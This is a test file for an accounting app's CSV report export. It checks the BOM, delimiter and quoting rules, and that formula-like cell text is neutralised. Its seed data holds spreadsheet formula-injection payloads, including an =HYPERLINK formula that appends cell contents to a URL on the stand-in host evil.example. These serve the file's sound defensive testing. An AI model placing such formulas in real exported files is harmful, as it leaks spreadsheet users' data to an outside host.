import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startKubiki, type TestKubiki } from '../helpers/test-kubiki.ts';

// Report CSV as Excel needs it: a UTF-8 BOM (else Cyrillic is read as cp1251), `;` on request for
// Russian Excel, RFC 4180 quoting, and no formulas smuggled in through text cells.
let t: TestKubiki;
beforeAll(async () => {
  t = await startKubiki({ enable: ['base', 'finance'] });
  const post = async (date: string, memo: string, lines: unknown[]) => {
    const r = await t.api('POST', '/api/finance/entries', { date, memo, lines });
    expect(r.status, JSON.stringify(r.body)).toBe(201);
  };
  await post('2026-03-01', '=HYPERLINK("http://evil.example/?"&A1;"Счёт")', [{ account: '44', debit: '300.00' }, { account: '51', credit: '300.00' }]);
  await post('2026-03-02', '@SUM(1+1)', [{ account: '51', debit: '100.50' }, { account: '80', credit: '100.50' }]);
  await post('2026-03-03', 'Оплата; аванс', [{ account: '51', debit: '50.00' }, { account: '80', credit: '50.00' }]);
  await post('2026-03-04', '-2+3', [{ account: '51', debit: '1.00' }, { account: '80', credit: '1.00' }]);
});
afterAll(() => t?.close());

/** The raw bytes: fetch's text() drops a BOM, which is what is being tested. */
async function download(path: string): Promise<{ status: number; type: string | null; bytes: Buffer }> {
  const res = await fetch(t.url + path, { headers: { authorization: `Bearer ${t.adminToken}` } });
  return { status: res.status, type: res.headers.get('content-type'), bytes: Buffer.from(await res.arrayBuffer()) };
}
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const lines = (bytes: Buffer): string[] => bytes.subarray(BOM.length).toString('utf8').split('\r\n');

describe('report CSV', () => {
  it('starts with a UTF-8 BOM so Excel reads Cyrillic, unless bom=false', async () => {
    const r = await download('/api/finance/reports/trial-balance?to=2026-03-31&format=csv');
    expect(r.status).toBe(200);
    expect(r.type).toContain('text/csv; charset=utf-8');
    expect(r.bytes.subarray(0, 3)).toEqual(BOM);
    expect(lines(r.bytes)[0]).toBe('account,name,type,openingDebit,openingCredit,debit,credit,closingDebit,closingCredit');
    expect(lines(r.bytes).find((l) => l.startsWith('51,'))).toBe('51,Расчётные счета / Bank accounts,asset,0.00,0.00,151.50,300.00,0.00,148.50');

    const plain = await download('/api/finance/reports/trial-balance?to=2026-03-31&format=csv&bom=false');
    expect(plain.bytes.toString('utf8').startsWith('account,')).toBe(true);
    expect(plain.bytes.subarray(0, 3)).not.toEqual(BOM);
  });

  it('separates with ; for Russian Excel and quotes cells holding the separator, quotes or line breaks', async () => {
    const comma = lines((await download('/api/finance/reports/general-ledger?account=51&format=csv')).bytes);
    expect(comma[0]).toBe('date,entry,memo,source,organization,debit,credit,balance');
    expect(comma.find((l) => l.includes('аванс'))).toMatch(/^2026-03-03,[0-9a-f-]{36},Оплата; аванс,,,50.00,0.00,-149.50$/);

    for (const delimiter of [';', 'semicolon', '%3B']) {
      const r = await download(`/api/finance/reports/general-ledger?account=51&format=csv&delimiter=${delimiter}`);
      expect(r.status, delimiter).toBe(200);
      const semi = lines(r.bytes);
      expect(semi[0]).toBe('date;entry;memo;source;organization;debit;credit;balance');
      // Decimals keep their dot: a decimal comma is not what `delimiter` changes.
      expect(semi.find((l) => l.includes('аванс'))).toMatch(/^2026-03-03;[0-9a-f-]{36};"Оплата; аванс";;;50.00;0.00;-149.50$/);
    }
    for (const bad of ['delimiter=tab', 'delimiter=;&delimiter=,', 'bom=yes']) {
      const r = await t.api('GET', `/api/finance/reports/general-ledger?account=51&format=csv&${bad}`);
      expect(r.status, bad).toBe(400);
      expect(r.body).toMatchObject({ code: 'bad-query', field: bad.split('=')[0] });
    }
  });

  it('puts an apostrophe before text that a spreadsheet would run as a formula, never before a number', async () => {
    const gl = lines((await download('/api/finance/reports/general-ledger?account=51&format=csv')).bytes);
    const row = (date: string) => gl.find((l) => l.startsWith(date))!;
    // The formula is text again, quoted per RFC 4180 (it holds quotes), its quotes doubled.
    expect(row('2026-03-01')).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1;""Счёт"")",`);
    expect(row('2026-03-01')).toMatch(/,0\.00,300\.00,-300\.00$/);
    expect(row('2026-03-02')).toContain(`,'@SUM(1+1),`);
    expect(row('2026-03-04')).toContain(`,'-2+3,`);
    // Negative balances are numbers and stay so.
    expect(row('2026-03-02')).toMatch(/,100\.50,0\.00,-199\.50$/);
  });
});
